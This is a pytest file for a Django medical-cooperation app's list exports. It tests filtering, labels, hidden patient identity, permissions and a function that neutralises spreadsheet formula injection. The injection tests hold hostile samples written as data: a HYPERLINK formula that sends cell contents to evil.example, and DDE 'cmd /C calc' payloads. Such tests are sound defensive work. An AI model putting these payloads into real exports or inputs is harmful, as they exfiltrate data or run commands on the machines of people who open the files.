"""Every list exports what it shows: the same filters, all pages, labels instead of codes."""

import csv
import io
from datetime import date

import openpyxl
import pytest
from django.urls import reverse

from medcoop.activities.models import Activity
from medcoop.conftest import make_partner
from medcoop.core.permissions import Role
from medcoop.exports.tables import safe_cell
from medcoop.patients.models import PatientEpisode


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_activity_list_exports_its_filtered_rows_with_labels(client, coordinator_a, hospital_a, activity_of_a):
    Activity.objects.create(owner=hospital_a, kind_id="conference", title="Hội thảo 2019", start_on=date(2019, 5, 1))
    client.force_login(coordinator_a)
    header, *rows = csv_rows(client.get(reverse("activity-list"), {"year": 2025, "export": "csv"}))
    rows = [dict(zip(header, row, strict=True)) for row in rows]
    assert [r["Tiêu đề"] for r in rows] == [activity_of_a.title]
    assert rows[0]["Loại"] == "Đào tạo / tập huấn" and "Viện Gustave Roussy" in rows[0]["Đối tác"]
    assert rows[0]["Mã hoạt động"] == f"#{activity_of_a.pk}" and rows[0]["Đơn vị quản lý"] == "Bệnh viện K"
    assert rows[0]["Nhân viên y tế được đào tạo"].startswith("660")


def test_organizations_export_to_excel_with_country_names(client, coordinator_a, partner_of_a):
    client.force_login(coordinator_a)
    response = client.get(reverse("organization-list"), {"country": "FR", "export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[1][0] == "Viện Gustave Roussy" and values[1][3] == "Pháp" and values[1][2] == "Bệnh viện"
    assert len(values) == 2


def test_agreements_export_their_derived_status(client, coordinator_a, agreement_of_a):
    client.force_login(coordinator_a)
    rows = csv_rows(client.get(reverse("agreement-list"), {"export": "csv"}))
    assert rows[1][0] == agreement_of_a.title and rows[1][-1] == "Đang hiệu lực" and rows[1][6] == "27/11/2024"


def test_the_patient_export_never_carries_the_identity(client, coordinator_a, hospital_a):
    from medcoop.patients.services import save_episode

    save_episode(coordinator_a, PatientEpisode(owner=hospital_a, nationality="LA"), {"name": "Bounmy Vongsa"})
    client.force_login(coordinator_a)
    response = client.get(reverse("episode-list"), {"export": "csv"})
    assert "Bounmy" not in response.content.decode("utf-8-sig")
    assert csv_rows(response)[1][1] == "Lào"


def test_an_export_goes_through_the_same_permission_layer(client, users, activity_of_a, coordinator_b):
    client.force_login(coordinator_b)
    assert len(csv_rows(client.get(reverse("activity-list"), {"export": "csv"}))) == 1  # the header only
    client.force_login(users[Role.PARTNER])
    assert client.get(reverse("activity-list"), {"export": "csv"}).status_code == 404


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")'


@pytest.mark.parametrize(
    "value, written",
    [
        (HOSTILE, "'" + HOSTILE),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1.500", "-1.500"),  # a signed number written as text calls nothing
        ("+84 912 345 678", "+84 912 345 678"),
        (-5, -5),  # numbers stay numbers
        (-13.5, -13.5),
        ("Bệnh viện K = tốt", "Bệnh viện K = tốt"),
    ],
)
def test_a_cell_that_would_start_a_formula_is_neutralised_and_numbers_stay_numbers(value, written):
    assert safe_cell(value) == written


def test_a_partner_named_like_a_formula_is_text_in_the_csv_and_the_xlsx(client, coordinator_a, hospital_a):
    make_partner(hospital_a, HOSTILE)
    client.force_login(coordinator_a)
    rows = csv_rows(client.get(reverse("organization-list"), {"export": "csv"}))
    assert ["'" + HOSTILE] == [r[0] for r in rows[1:] if HOSTILE in r[0]]
    response = client.get(reverse("organization-list"), {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value and HOSTILE in str(cell.value)]
    assert [(c.value, c.data_type) for c in cells] == [("'" + HOSTILE, "s")]
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
